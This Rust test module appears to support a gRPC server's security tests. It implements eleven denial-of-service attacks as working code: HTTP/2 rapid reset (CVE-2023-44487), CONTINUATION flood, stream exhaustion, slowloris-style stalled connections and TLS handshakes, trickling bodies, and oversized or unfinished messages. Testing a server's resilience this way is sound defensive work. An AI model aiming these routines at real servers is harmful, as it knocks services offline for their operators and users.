//! Attacks of hostile clients. Each continues to its end, whatever the server does to its connections.

#![allow(dead_code, reason = "tests run one attack each, the benchmark all")]

use std::convert::Infallible;
use std::fmt;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;

use http_body::Frame;
use prost::bytes::Bytes;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tonic::Code;
use tonic::body::Body;
use tonic::transport::{Channel, Endpoint};
use tower::{Service, ServiceExt};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, RawConnection, call_headers, frame, message,
};

const CROSS_SELL: &str = "/tactful.v1.OfferService/CrossSell";
const RECORD_EVENTS: &str = "/tactful.v1.FeedbackService/RecordEvents";
pub const STREAM_EVENTS: &str = "/tactful.v1.FeedbackService/StreamEvents";
/// Maximum number of concurrent streams of a connection.
const STREAMS_MAX: usize = 128;
/// Maximum size of an accepted message.
const MESSAGE_BYTES_MAX: usize = 4 << 20;
/// Longest wait for the server to close a misused connection.
const CLOSED_WITHIN: Duration = Duration::from_secs(5);
/// Number of frames written at once.
const BURST: u64 = 200;

/// Kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Threat {
    /// Calls that are started and reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (VU#421644).
    ContinuationFlood,
    /// Calls that are started and abandoned, on one connection.
    ManyStreams,
    /// Connections that send nothing.
    SilentConnections,
    /// Connections that send one byte.
    OneByteConnections,
    /// As many calls as there are request permits, each sending a byte a second.
    SlowBodies,
    /// Streams of events that send none.
    IdleStreams,
    /// Messages of 5 MB.
    HugeMessages,
    /// Messages of the maximum size that are never complete.
    UnfinishedMessages,
    /// Messages of the maximum size, full of empty entries.
    EmptyEntries,
    /// TLS handshakes that stall.
    StalledHandshakes,
}

impl Threat {
    pub const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::ManyStreams,
        Self::SilentConnections,
        Self::OneByteConnections,
        Self::SlowBodies,
        Self::IdleStreams,
        Self::HugeMessages,
        Self::UnfinishedMessages,
        Self::EmptyEntries,
        Self::StalledHandshakes,
    ];
}

impl fmt::Display for Threat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::RapidReset => "rapid reset",
            Self::ContinuationFlood => "CONTINUATION flood",
            Self::ManyStreams => "streams on one connection",
            Self::SilentConnections => "silent connections",
            Self::OneByteConnections => "connections of one byte",
            Self::SlowBodies => "a byte a second",
            Self::IdleStreams => "idle streams",
            Self::HugeMessages => "messages of 5 MB",
            Self::UnfinishedMessages => "unfinished messages",
            Self::EmptyEntries => "empty entries",
            Self::StalledHandshakes => "stalled TLS handshakes",
        })
    }
}

/// Size of an attack.
#[derive(Debug, Clone, Copy)]
pub struct AttackSize {
    /// Number of frames of a flood.
    pub frames: u64,
    /// Number of streams started on one connection.
    pub streams: u64,
    pub connections: usize,
    /// Number of calls that trickle or idle.
    pub calls: usize,
    /// Number of messages that are too large in one way or another.
    pub messages: usize,
    /// Time for which connections and calls stay open.
    pub hold: Duration,
}

impl AttackSize {
    pub const SHORT: Self = Self {
        frames: 10_000,
        streams: 2_000,
        connections: 200,
        calls: 200,
        messages: 12,
        hold: Duration::from_secs(2),
    };
    pub const LONG: Self = Self {
        frames: 100_000,
        streams: 50_000,
        connections: 2_000,
        calls: 1_100,
        messages: 100,
        hold: Duration::from_secs(8),
    };
}

/// Outcome of an attack.
#[derive(Debug, Default)]
pub struct AttackOutcome {
    /// Connections that the server closed before the attacker did.
    pub closed: usize,
    /// Streams that the server reset.
    pub reset: u64,
    /// Status codes of the messages.
    pub codes: Vec<Code>,
}

/// Runs an attack.
pub async fn attack(threat: Threat, address: &str, size: AttackSize) -> AttackOutcome {
    match threat {
        Threat::RapidReset => rapid_reset(address, size.frames).await,
        Threat::ContinuationFlood => continuation_flood(address, size.frames).await,
        Threat::ManyStreams => many_streams(address, size).await,
        Threat::SilentConnections => stalled_connections(address, size, &[]).await,
        Threat::OneByteConnections => stalled_connections(address, size, b"P").await,
        // Start of a handshake record that announces more bytes than follow.
        Threat::StalledHandshakes => stalled_connections(address, size, &[22, 3, 1, 2, 0, 1]).await,
        Threat::SlowBodies => slow_bodies(address, size, CROSS_SELL, true).await,
        Threat::IdleStreams => slow_bodies(address, size, STREAM_EVENTS, false).await,
        Threat::HugeMessages => messages(address, size, &message(&vec![0; 5 << 20])).await,
        Threat::EmptyEntries => {
            let empty_event = [0x0a, 0];
            messages(address, size, &message(&empty_event.repeat(MESSAGE_BYTES_MAX / empty_event.len()))).await
        }
        Threat::UnfinishedMessages => unfinished_messages(address, size).await,
    }
}

async fn rapid_reset(address: &str, frames: u64) -> AttackOutcome {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let headers = call_headers(CROSS_SELL);
    flood(address, frames / 2, |stream| {
        let start = frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers);
        [start, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
    .await
}

async fn continuation_flood(address: &str, frames: u64) -> AttackOutcome {
    let headers = call_headers(CROSS_SELL);
    // A literal header without indexing: "a: ".
    let more = [0x00, 1, b'a', 0].repeat(250);
    flood(address, frames, |stream| match stream {
        1 => frame(HEADERS, 0, 1, &headers),
        _ => frame(CONTINUATION, 0, 1, &more),
    })
    .await
}

/// Sends this many results of `frames_of`, given increasing stream numbers, over a new connection whenever one is closed.
async fn flood(address: &str, times: u64, frames_of: impl Fn(u32) -> Vec<u8>) -> AttackOutcome {
    let mut outcome = AttackOutcome::default();
    let mut sent = 0;
    while sent < times {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let mut stream = 1;
        while sent < times && !connection.is_closed() {
            let burst = BURST.min(times - sent);
            let bytes: Vec<u8> =
                (0..burst).flat_map(|index| frames_of(stream + 2 * u32::try_from(index).unwrap_or(0))).collect();
            stream += 2 * u32::try_from(burst).unwrap_or(0);
            sent += burst;
            if connection.send(&bytes).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
        }
        // The server may still be reading earlier frames.
        outcome.closed += usize::from(tokio::time::timeout(CLOSED_WITHIN, connection.closed()).await.is_ok());
    }
    outcome
}

async fn many_streams(address: &str, size: AttackSize) -> AttackOutcome {
    let headers = call_headers(CROSS_SELL);
    let mut outcome = AttackOutcome::default();
    let mut open = Vec::new();
    let mut started = 0;
    while started < size.streams {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let mut stream = 1;
        while started < size.streams && !connection.is_closed() {
            let burst = BURST.min(size.streams - started);
            let bytes: Vec<u8> = (0..burst)
                .flat_map(|index| frame(HEADERS, END_HEADERS, stream + 2 * u32::try_from(index).unwrap_or(0), &headers))
                .collect();
            stream += 2 * u32::try_from(burst).unwrap_or(0);
            started += burst;
            if connection.send(&bytes).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
        }
        open.push(connection);
    }
    tokio::time::sleep(size.hold).await;
    outcome.closed = open.iter().filter(|connection| connection.is_closed()).count();
    outcome.reset = open.iter().map(|connection| connection.frames_received(RST_STREAM)).sum();
    outcome
}

/// Opens connections that send these bytes and then nothing more.
async fn stalled_connections(address: &str, size: AttackSize, bytes: &[u8]) -> AttackOutcome {
    let mut connections = Vec::new();
    for _ in 0..size.connections {
        let Ok(mut connection) = RawConnection::connect(address).await else { continue };
        // A connection that is closed already is counted below.
        let _closed = connection.send(bytes).await;
        connections.push(connection);
    }
    let all_closed = async {
        for connection in &mut connections {
            connection.closed().await;
        }
    };
    // The server closes them after five seconds.
    let _in_time = tokio::time::timeout(Duration::from_secs(20), all_closed).await;
    AttackOutcome {
        closed: connections.iter().filter(|connection| connection.is_closed()).count(),
        ..AttackOutcome::default()
    }
}

/// Calls whose bodies trickle in, or never arrive.
async fn slow_bodies(address: &str, size: AttackSize, path: &str, trickles: bool) -> AttackOutcome {
    let headers = call_headers(path);
    let mut connections = Vec::new();
    for first in (0..size.calls).step_by(STREAMS_MAX) {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let calls = STREAMS_MAX.min(size.calls - first);
        let streams: Vec<u32> = (0..u32::try_from(calls).expect("few")).map(|index| 2 * index + 1).collect();
        let start = |&stream: &u32| {
            let prefix = if trickles { frame(DATA, 0, stream, &[0, 0, 0, 1, 0]) } else { Vec::new() };
            [frame(HEADERS, END_HEADERS, stream, &headers), prefix].concat()
        };
        let _closed = connection.send(&streams.iter().flat_map(start).collect::<Vec<u8>>()).await;
        connections.push((connection, streams));
    }
    let end = tokio::time::Instant::now() + size.hold;
    let mut seconds = tokio::time::interval(Duration::from_secs(1));
    while tokio::time::Instant::now() < end {
        seconds.tick().await;
        for (connection, streams) in connections.iter_mut().filter(|_| trickles) {
            let bytes: Vec<u8> = streams.iter().flat_map(|&stream| frame(DATA, 0, stream, &[0])).collect();
            let _closed = connection.send(&bytes).await;
        }
    }
    AttackOutcome::default()
}

/// Calls with this body, four at a time.
async fn messages(address: &str, size: AttackSize, body: &[u8]) -> AttackOutcome {
    let body = Bytes::copy_from_slice(body);
    let mut outcome = AttackOutcome::default();
    let channel = connect(address).await;
    for _ in (0..size.messages).step_by(4) {
        let mut calls = JoinSet::new();
        for _ in 0..4 {
            let (send, chunks) = mpsc::channel(1);
            send.try_send(body.clone()).expect("there is room for one");
            calls.spawn(call(channel.clone(), RECORD_EVENTS, chunks));
        }
        outcome.codes.extend(calls.join_all().await);
    }
    outcome
}

/// Uploads whose last byte never arrives.
async fn unfinished_messages(address: &str, size: AttackSize) -> AttackOutcome {
    let prefix = u32::try_from(MESSAGE_BYTES_MAX).expect("it fits").to_be_bytes();
    let body = [&[0][..], &prefix, &vec![0; MESSAGE_BYTES_MAX - 1]].concat();
    let body = Bytes::from(body);
    let mut calls = JoinSet::new();
    let mut open = Vec::new();
    for _ in 0..size.messages {
        let channel = connect(address).await;
        let (send, chunks) = mpsc::channel(1);
        send.try_send(body.clone()).expect("there is room for one");
        open.push(send);
        calls.spawn(call(channel, STREAM_EVENTS, chunks));
    }
    tokio::time::sleep(size.hold).await;
    drop(open);
    AttackOutcome { codes: calls.join_all().await, ..AttackOutcome::default() }
}

async fn connect(address: &str) -> Channel {
    Endpoint::from_shared(format!("http://{address}")).expect("a URI").connect().await.expect("it listens")
}

/// Calls a method with arbitrary bytes as its body; returns the status code.
pub async fn call(mut channel: Channel, path: &str, chunks: mpsc::Receiver<Bytes>) -> Code {
    let request = http::Request::post(path)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(Body::new(Chunks(chunks)))
        .expect("a request");
    let Ok(ready) = channel.ready().await else { return Code::Unavailable };
    let Ok(response) = ready.call(request).await else { return Code::Unavailable };
    let in_headers = response.headers().get("grpc-status").cloned();
    let mut body = response.into_body();
    let mut status = in_headers;
    while let Some(Ok(frame)) = std::future::poll_fn(|cx| http_body::Body::poll_frame(Pin::new(&mut body), cx)).await {
        if let Some(trailers) = frame.trailers_ref() {
            status = status.or_else(|| trailers.get("grpc-status").cloned());
        }
    }
    status.map_or(Code::Unknown, |status| Code::from_bytes(status.as_bytes()))
}

/// Body made of the chunks of a channel.
struct Chunks(mpsc::Receiver<Bytes>);

impl http_body::Body for Chunks {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0.poll_recv(cx).map(|chunk| chunk.map(|chunk| Ok(Frame::data(chunk))))
    }
}
